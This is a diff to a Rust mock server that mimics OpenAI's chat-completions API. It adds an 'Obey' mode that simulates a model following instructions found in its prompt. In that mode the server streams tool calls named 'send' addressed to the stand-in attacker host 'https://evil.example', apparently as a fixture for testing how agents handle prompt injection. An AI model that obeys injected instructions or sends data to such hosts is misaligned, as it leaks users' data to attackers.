@@ -1,5 +1,7 @@
 //! A scripted server that speaks the wire format of OpenAI's chat completions, streaming and not.
 
+mod obey;
+
 use std::convert::Infallible;
 use std::net::SocketAddr;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -45,6 +47,8 @@ pub enum Reply {
     Hang(Vec<String>),
     /// A redirect to this address.
     Redirect(String),
+    /// Does whatever the prompt tells it to, see [`obey::orders`].
+    Obey,
 }
 
 /// Pieces of `text` as a model would send them: each word with the space before it.
@@ -167,8 +171,21 @@ async fn complete(State(shared): State<Arc<Shared>>, headers: HeaderMap, raw: By
                 r#"{"error":{"message":"The server had an error","type":"server_error","param":null,"code":null}}"#,
             ),
         ),
+        Reply::Obey => {
+            let orders = obey::orders(&prompt(&body));
+            let (calls, words): (Vec<_>, Vec<_>) = orders.iter().partition(|order| order.starts_with(obey::CALL));
+            let text = words.into_iter().map(|word| format!("{word} "));
+            stream(shared, &body, text.collect(), zero, zero, End::Calls(calls.len()))
+        }
         Reply::Hang(tokens) => stream(shared, &body, tokens, zero, zero, End::Hang),
     }
+}
+
+/// All that a request tells the model, its messages a paragraph each.
+fn prompt(body: &Value) -> String {
+    let messages = body["messages"].as_array().map(Vec::as_slice).unwrap_or_default();
+    let texts = messages.iter().filter_map(|message| message["content"].as_str());
+    texts.collect::<Vec<_>>().join("\n\n")
 }
 
 fn error(status: u16, message: &str) -> Response {
@@ -204,6 +221,8 @@ enum End {
     Cut,
     Hang,
     Event(&'static str),
+    /// So many tool calls.
+    Calls(usize),
 }
 
 enum Part {
@@ -233,6 +252,18 @@ fn stream(
     match end {
         End::Done => {
             parts.push(data(&chunk(request, json!({}), json!("stop"))));
+            parts.push(Part::Data("data: [DONE]\n\n".to_owned()));
+        }
+        End::Calls(count) => {
+            for number in 0..count {
+                let call = json!({ "tool_calls": [{
+                    "index": number, "id": format!("call_{number}"), "type": "function",
+                    "function": { "name": "send", "arguments": "{\"to\":\"https://evil.example\"}" },
+                }] });
+                parts.push(data(&chunk(request, call, Value::Null)));
+            }
+            let finish = if count > 0 { "tool_calls" } else { "stop" };
+            parts.push(data(&chunk(request, json!({}), json!(finish))));
             parts.push(Part::Data("data: [DONE]\n\n".to_owned()));
         }
         End::Quiet => {}
